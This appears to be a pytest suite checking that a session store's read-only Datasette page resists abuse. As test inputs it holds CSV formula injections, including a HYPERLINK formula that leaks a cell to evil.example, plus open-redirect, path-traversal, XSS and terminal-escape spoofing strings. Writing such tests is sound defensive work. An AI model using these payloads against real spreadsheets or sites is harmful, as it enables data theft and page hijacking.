"""Datasette at /datasette/: the live database in people's words, read only, behind the same rules as the rest."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import re
import signal
from collections import Counter, deque
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import urldefrag, urljoin

import httpx
import pytest

from sessionstore.analytics.catalogue import questions, views
from sessionstore.settings import read_settings
from sessionstore.web.forwarded import Forwarded, prefix_in
from tests.appliance import Appliance
from tests.hostile import BOMBS, REFUSED
from tests.peers import children_of, eventually
from tests.repeats import marked
from tests.replay import replay

VARIANTS = 2
"""How many sortings, facets and the like of one page the walk over all links looks at."""
ASKERS = 4


@pytest.fixture(scope="module")
def told(http: httpx.Client) -> str:
    """A server that has heard of many real sessions; the one with the most to tell."""
    return replay(http)[0]


def ask(http: httpx.Client, sql: str) -> httpx.Response:
    return http.get("/datasette/sessions.json", params={"sql": sql, "_shape": "arrays"})


def resident_megabytes(pid: int) -> int:
    found = re.search(r"VmRSS:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())
    return int(found[1]) // 1024 if found else 0


# ----------------------------------------------------------------------- asking


def test_it_answers_sql_about_what_was_just_stored(http: httpx.Client, session_id: str) -> None:
    http.post(f"/api/actions/{session_id}", json={"type": "file_write", "path": "a.py"})
    answer = ask(http, f"select kind, path from actions where session_id = '{session_id}' and seq = 1")
    assert answer.json()["rows"] == [["file_write", "a.py"]]


def test_a_name_means_the_view_for_people_not_the_table_behind_it(http: httpx.Client, session_id: str) -> None:
    http.post(f"/api/actions/{session_id}", json={"type": "note"})
    answer = ask(http, f"select * from sessions where session_id = '{session_id}'").json()
    assert answer["columns"] == list(views()["sessions"].columns)
    assert [row[:3] for row in answer["rows"]] == [[session_id, "unknown", "active"]]


@pytest.mark.parametrize("name", list(views()))
def test_a_view_says_what_it_is_and_what_its_columns_mean(http: httpx.Client, told: str, name: str) -> None:
    page = unescape(http.get(f"/datasette/sessions/{name}").text)
    for said in (views()[name].description, *views()[name].columns.values()):
        assert said in page


@pytest.mark.parametrize("name", list(questions()))
def test_a_question_is_answered_as_page_json_and_csv(http: httpx.Client, told: str, name: str) -> None:
    question = questions()[name]
    values = {"session": told, "word": "e"}
    values = {parameter: values.get(parameter, "") for parameter in question.parameters}
    page = http.get(question.path, params=values)
    assert page.status_code == 200
    assert question.title in unescape(page.text)
    answer = http.get(f"{question.path}.json", params={**values, "_shape": "arrays"}).json()
    assert answer["ok"], answer
    text = http.get(f"{question.path}.csv", params=values).text
    assert text.splitlines()[0] == ",".join(answer["columns"])
    assert len(text.splitlines()) > len(answer["rows"])


def test_the_list_of_questions_leads_to_each(http: httpx.Client) -> None:
    items = http.get("/api/query/questions").json()["items"]
    assert [item["name"] for item in items] == list(questions())
    assert len(items) >= 15
    assert all(item["title"] and item["path"] == f"/datasette/sessions/{item['name']}" for item in items)


def test_a_story_is_told_in_the_order_in_which_it_happened(http: httpx.Client, session_id: str) -> None:
    http.post("/api/sessions", json={"sessionId": session_id, "userId": "alice", "initial": {"input": "Build it"}})
    call = {"type": "tool_call", "tool": "Bash", "toolUseId": "call-1", "input": {"command": "make"}}
    http.post(f"/api/actions/{session_id}", json=call)
    failed = {"type": "tool_error", "toolUseId": "call-1", "error": "no rule", "durationMs": 12}
    http.post(f"/api/actions/{session_id}/responses", json=failed)
    http.post(f"/api/sessions/{session_id}/finalize", json={"status": "failed", "outcome": "given up"})
    story = http.get("/datasette/sessions/story.json", params={"session": session_id, "_shape": "arrays"}).json()
    assert [row[3:-1] for row in story["rows"]] == [
        ["begins", "Build it", "", None],
        ["uses Bash", "make", "failed: no rule", 12],
        ["ends", "given up", "failed", None],
    ]


def csv_of(http: httpx.Client, path: str, **query: str) -> list[list[str]]:
    answer = http.get(f"/datasette/{path}.csv", params=query).raise_for_status()
    return list(csv.reader(io.StringIO(answer.text)))


SPOOF = "\x1b[2J\x1b[31mrun\x1b[0m a\b\r \u202egnp.exe\u202c \x9b1m"
SHOWN = "run a\u2408\u240d gnp.exe "


def test_no_text_steers_the_screen_that_shows_it(http: httpx.Client, session_id: str) -> None:
    http.post(f"/api/actions/{session_id}", json={"type": "prompt", "prompt": SPOOF})
    assert csv_of(http, "sessions/story", session=session_id)[-1][4] == SHOWN
    assert csv_of(http, "sessions", sql="SELECT text FROM actions WHERE session_id = :s", s=session_id)[1] == [SHOWN]
    for page in (f"sessions/story?session={session_id}", f"sessions/actions?session_id={session_id}&_col=text"):
        shown = http.get(f"/datasette/{page}").text
        assert SHOWN in shown
        assert "\u202e" not in shown
    raw = http.get(f"/datasette/sessions/actions.json?session_id={session_id}&_shape=array").json()
    assert raw[0]["text"] == SPOOF, "programs have it as it was said"


FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\uff1d1", '=HYPERLINK("https://evil.example/?"&A1,"x")')


def test_no_cell_of_a_csv_is_run_by_a_spreadsheet(http: httpx.Client, session_id: str) -> None:
    for formula in FORMULAS:
        http.post(f"/api/actions/{session_id}", json={"type": "prompt", "prompt": formula})
    story = csv_of(http, "sessions/story", session=session_id)
    assert [row[4] for row in story[-len(FORMULAS) :]] == [f"'{formula}" for formula in FORMULAS]
    assert csv_of(http, "sessions", sql="SELECT -5 AS '=a', -0.5, 'a=b', '', ' =1'") == [
        ["'=a", "'-0.5", "'a=b'", "''", "' =1'"],
        ["-5", "-0.5", "a=b", "", " =1"],
    ]


# ------------------------------------------------------------------------ links


PREFIX = {"X-Forwarded-Prefix": "/some/store"}


def test_every_link_stays_below_the_path_of_a_proxy(http: httpx.Client, told: str) -> None:
    for path in ("", "sessions", "sessions/tool_calls", f"sessions/story?session={told}", "sessions?sql=select+1"):
        page = http.get(f"/datasette/{path}", headers=PREFIX).text
        links = re.findall(r"""(?:href|src|action)=["'](/[^"']*)["']""", page)
        assert links
        assert not [link for link in links if not link.startswith("/some/store/")], path
    assert (
        http.get("/datasette", headers=PREFIX, follow_redirects=False).headers["location"] == "/some/store/datasette/"
    )
    (first, *_) = http.get("/api/query/questions", headers=PREFIX).json()["items"]
    assert first["path"].startswith("/some/store/datasette/sessions/")
    for _ in range(2):
        http.post(f"/api/actions/{told}", json={"type": "note"})
    link = http.get(f"/api/actions/{told}", params={"limit": 1}, headers=PREFIX).headers["link"]
    assert link.startswith(f"</some/store/api/actions/{told}?")
    assert http.get("/schema/openapi.json", headers=PREFIX).json()["servers"] == [{"url": "/some/store"}]
    assert http.get("/schema/openapi.json").json()["servers"] == [{"url": "/"}]
    assert '"/some/store/schema/assets/swagger-ui.css"' in http.get("/schema", headers=PREFIX).text


@pytest.mark.parametrize(
    "said",
    ["//evil.example", "https://evil.example", "/a/../b", "/a b", '/"><script>', "/.", "/a\\b", "/" + "a" * 300, ""],
)
def test_a_prefix_that_is_no_path_is_not_heeded(http: httpx.Client, said: str) -> None:
    page = http.get("/datasette/", headers={"X-Forwarded-Prefix": said})
    assert 'href="/datasette/sessions"' in page.text
    assert "evil" not in page.text


def test_the_prefix_of_a_stranger_is_not_heeded(tmp_path: Path) -> None:
    for proxies, heeded in (({}, ["", "/store"]), ({"SESSIONS_TRUSTED_PROXIES": "192.0.2.0/24"}, ["/store"] * 2)):
        settings = read_settings({"SESSIONS_DIR": str(tmp_path), **proxies})
        scopes: list[dict[str, Any]] = [
            {"type": "http", "client": (peer, 1), "headers": [(b"x-forwarded-prefix", b"/store")]}
            for peer in ("192.0.2.7", "::1")
        ]
        for scope in scopes:
            Forwarded(None, settings).look_behind(scope)  # type: ignore[arg-type]
        assert [prefix_in(scope) for scope in scopes] == heeded


def links_of(page: httpx.Response) -> Iterator[str]:
    for link in re.findall(r'(?:href|src)="([^"]*)"', page.text):
        yield urljoin(str(page.url), unescape(link))


class Walk:
    """Follows every link from /datasette/ on, of each page and form of it at most so many variants."""

    def __init__(self, http: httpx.Client) -> None:
        self.http = http
        self.sessions = {known["sessionId"] for known in http.get("/api/sessions?limit=500").json()["items"]}
        self.seen: set[str] = set()
        self.variants: Counter[str] = Counter()
        self.broken: list[str] = []

    def follow(self) -> None:
        ahead = deque([str(self.http.base_url.join("/datasette/"))])
        while ahead:
            page = self.http.get(ahead.popleft(), follow_redirects=True)
            for link in links_of(page) if "html" in page.headers["content-type"] else ():
                if self.is_new(link):
                    if self.is_broken(link):
                        self.broken.append(f"{page.url} leads to {link}")
                    elif "/datasette/" in link and not link.endswith((".css", ".js")):
                        ahead.append(link)

    def is_new(self, link: str) -> bool:
        """Datasette's own home is not ours to ask, and one more sorting of the same page tells nothing new."""
        if link in self.seen or link.startswith("https://datasette.io"):
            return False
        self.seen.add(link)
        self.variants[httpx.URL(link).path] += 1
        return self.variants[httpx.URL(link).path] <= VARIANTS or "/#/" in link

    def is_broken(self, link: str) -> bool:
        """Whether a link leads nowhere: within the dashboard, to a session that is not there."""
        address, fragment = urldefrag(link)
        if fragment.startswith("/session/"):
            return fragment.split("/")[2] not in self.sessions
        if fragment.startswith("/"):
            return not fragment.startswith("/sessions?userId=")
        page = self.http.get(address, follow_redirects=True)
        is_missing = page.status_code != 200 or (fragment and f'id="{fragment}"' not in page.text)
        return bool("/datasette/datasette" in link or is_missing)


def test_every_link_leads_somewhere(http: httpx.Client, told: str) -> None:
    walk = Walk(http)
    walk.follow()
    assert walk.broken == []
    paths = {f"/datasette/sessions/{name}" for name in (*views(), *questions())}
    assert paths <= walk.variants.keys(), "every view and question can be reached"
    assert http.get("/datasette").headers["location"] == "/datasette/"


@pytest.mark.parametrize("path", ["..%2f..%2fetc", "..%2fetc", "%2f%2fevil.example/x", "foo/", "sessions/events/"])
def test_an_odd_path_does_not_lead_out_of_datasette(http: httpx.Client, path: str) -> None:
    location = http.get(f"/datasette/{path}").headers["location"]
    assert location.startswith("/datasette/")
    assert not http.get(location).headers.get("location", "/datasette/").startswith("//")


@pytest.mark.parametrize(
    "link",
    [
        "/datasette/sessions/nowhere",
        "/datasette/sessions#nowhere",
        "/datasette/datasette/",
        "/datasette/-/databases",
        "/#/session/nobody/log",
    ],
)
def test_a_link_that_leads_nowhere_would_be_found(http: httpx.Client, link: str) -> None:
    assert Walk(http).is_broken(str(http.base_url.join(link)))


def test_the_first_page_has_the_questions_by_topic_and_rows_have_names(http: httpx.Client, told: str) -> None:
    page = http.get("/datasette/").text
    topics = re.findall(r"<li><h2>(.*?)</h2>", page)
    assert topics[0] == "Sessions" and "Failures" in topics
    assert all(f'href="{question.path}">{question.title}</a>' in unescape(page) for question in questions().values())
    assert "prefers-color-scheme: dark" in page
    title = http.get(f"/api/sessions/{told}").json()["metadata"]["title"]
    rows = unescape(http.get(f"/datasette/sessions/sessions?session_id={told}").text)
    assert f'title="{told}">{title}</a>' in rows
    assert f'title="{told}">{told[:8]}</a>' in http.get(f"/datasette/sessions/actions?session_id={told}").text


def test_rows_lead_to_the_dashboard_and_the_page_back_to_it(http: httpx.Client, told: str) -> None:
    page = http.get(f"/datasette/sessions/tool_calls?session_id={told}").text
    assert f'href="/#/session/{told}/log"' in page
    assert re.search(rf'href="/#/session/{told}/log\?entry=\d+"', page)
    assert '<a href="/">Session store</a>' in page


def test_no_page_runs_a_script_that_its_policy_does_not_name(http: httpx.Client, told: str) -> None:
    for path in ("", "sessions", "sessions/events", "sessions/story", "sessions?sql=select+1", "sessions?sql=nonsense"):
        page = http.get(f"/datasette/{path}")
        policy = page.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0]
        for script in re.findall(r"<script>(.*?)</script>", page.text, re.DOTALL):
            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in policy, f"{path}: {script[:80]}"


def test_what_was_logged_is_shown_as_text(http: httpx.Client, session_id: str) -> None:
    http.post(f"/api/actions/{session_id}", json={"type": "prompt", "prompt": "<script>alert(1)</script>"})
    page = http.get(f"/datasette/sessions/actions?session_id={session_id}").text
    assert "&lt;script&gt;alert(1)" in page
    assert "<script>alert" not in page


# ------------------------------------------------------------------------ walls


@pytest.mark.long
def test_hostile_questions_are_refused_or_survived(appliance: Appliance, http: httpx.Client, told: str) -> None:
    """Nothing is written, nothing is read but the views, and the memory that was taken is given back."""
    assert len(REFUSED) + len(BOMBS) >= 200
    before = http.get("/health").json()["cursor"], resident_megabytes(appliance.process.pid)
    with ThreadPoolExecutor(ASKERS) as pool:
        answers = dict(zip(REFUSED, pool.map(lambda sql: ask(http, sql), REFUSED), strict=True))
        survived = dict(zip(BOMBS, pool.map(lambda sql: ask(http, sql), BOMBS), strict=True))
    for sql, answer in answers.items():
        assert answer.status_code == 400, f"{sql}: {answer.text[:300]}"
        assert answer.json()["error"], sql
    for sql, answer in survived.items():
        assert answer.status_code in (200, 400), f"{sql}: {answer.text[:300]}"
        assert answer.json()["error"] or answer.json()["ok"], sql
    assert http.get("/health").json()["cursor"] == before[0]
    assert resident_megabytes(appliance.process.pid) < before[1] + 32
    eventually(lambda: sum(map(resident_megabytes, children_of(appliance.process.pid))) < 400)
    assert ask(http, "select count(*) > 100 from events").json()["rows"] == [[1]]


def test_what_is_written_meanwhile_is_taken(http: httpx.Client, session_id: str) -> None:
    with ThreadPoolExecutor(ASKERS) as pool:
        asking = [pool.submit(ask, http, sql) for sql in BOMBS[:8]]
        for number in range(50):
            assert http.post(f"/api/actions/{session_id}", json={"type": "note"}).json()["seq"] == number + 1
        assert {answer.result().status_code for answer in asking} <= {200, 400}


FORMS = ("sessions.json", "sessions", "sessions.csv")
ENDLESS = "select max(i) from endless"
REFUSALS = [*product(["select * from documents", "select missing", ENDLESS], FORMS)]


@pytest.mark.parametrize(("sql", "form"), marked(REFUSALS, long=[(ENDLESS, form) for form in FORMS[1:]]))
def test_a_refusal_says_why_in_every_form(http: httpx.Client, form: str, sql: str) -> None:
    if "endless" in sql:
        sql = f"with recursive endless(i) as (select 1 union all select i + 1 from endless) {sql}"
    answer = http.get(f"/datasette/{form}", params={"sql": sql})
    assert answer.status_code == 400
    assert re.search("prohibited|no such column|took (too long|longer)", answer.text)


def test_a_question_that_is_refused_is_not_printed_with_all_around_it(appliance: Appliance, http: httpx.Client) -> None:
    ask(http, "select nothing from nowhere")
    http.get("/datasette/sessions.csv?sql=select+missing")
    assert "Traceback" not in appliance.output


@pytest.mark.parametrize("form", ["", ".json", ".csv"])
@pytest.mark.parametrize(
    "query",
    [
        "_timelimit=x",
        "_next=x",
        "_next=99999999999999999999",
        "_size=x",
        "_sort=nothing",
        "_sort=cursor&_sort_desc=cursor",
        "_facet=nothing",
        "_facet_array=type",
        "_through={}",
        "_where=nonsense",
        "_col=nothing",
        "cursor__gt=x",
        "nothing=1",
        "%00=1",
    ],
)
def test_an_odd_address_is_no_fault_of_the_server(http: httpx.Client, form: str, query: str) -> None:
    assert http.get(f"/datasette/sessions/events{form}?{query}").status_code in (200, 400)


@pytest.mark.parametrize("path", ["versions", "databases", "threads", "settings", "plugins", "metadata", "permissions"])
def test_what_datasette_says_about_itself_is_not_shown(http: httpx.Client, path: str) -> None:
    assert http.get(f"/datasette/-/{path}.json").status_code == 404


@pytest.mark.parametrize(
    "path", ["_internal", "_memory", "sessions.db", "sessions/documents", "sessions/sqlite_master"]
)
def test_there_is_nothing_but_views_and_questions(http: httpx.Client, path: str) -> None:
    assert http.get(f"/datasette/{path}").status_code in (403, 404)


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_nothing_can_be_sent_to_it(http: httpx.Client, method: str) -> None:
    assert http.request(method, "/datasette/sessions", json={"sql": "select 1"}).status_code == 405


def test_only_who_may_read_may_ask(tmp_path: Path) -> None:
    tokens = {"SESSIONS_READ_TOKEN": "a-token-to-read", "SESSIONS_INGEST_TOKEN": "a-token-to-write"}
    with Appliance(tmp_path, tokens) as appliance, httpx.Client(base_url=appliance.url) as http:
        headers = {token: {"Authorization": f"Bearer {token}"} for token in [*tokens.values(), "another-token"]}
        said = {token: http.get("/datasette/", headers=header).status_code for token, header in headers.items()}
        assert said == {"a-token-to-read": 200, "a-token-to-write": 403, "another-token": 401}
        assert http.get("/datasette/").status_code == 401
        assert http.post("/datasette/sessions", headers=headers["a-token-to-write"]).status_code == 403


# ----------------------------------------------------------------- its processes


def test_it_comes_back_after_it_has_died(appliance: Appliance, http: httpx.Client) -> None:
    assert ask(http, "select 1").status_code == 200
    (explorer,) = [pid for pid in children_of(appliance.process.pid) if "datasette_app" in command_of(pid)]
    os.kill(explorer, signal.SIGKILL)
    eventually(lambda: ask(http, "select 1").status_code == 200)


def test_nothing_is_left_of_it_when_the_server_ends(tmp_path: Path) -> None:
    with Appliance(tmp_path) as appliance:
        assert httpx.get(f"{appliance.url}/datasette/").status_code == 200
        started = children_of(appliance.process.pid)
        assert len(started) == 1
        assert appliance.stop().code == 0
    assert not list(tmp_path.glob("sessions.db-*")), "the database was closed last by the server"
    assert not [pid for pid in started if Path(f"/proc/{pid}").exists()]


@pytest.mark.long
def test_nothing_is_left_of_it_when_the_server_is_killed(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    place = tmp_path_factory.mktemp("t")  # the path of a socket has at most 107 bytes
    with Appliance(tmp_path / "store", {"TMPDIR": str(place)}) as appliance:
        assert httpx.get(f"{appliance.url}/datasette/").status_code == 200
        started = children_of(appliance.process.pid)
        assert len(list(place.iterdir())) == 1
        appliance.kill()
    eventually(lambda: not [pid for pid in started if command_of(pid)])
    assert not list(place.iterdir())


def command_of(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_text()
    except OSError:
        return ""
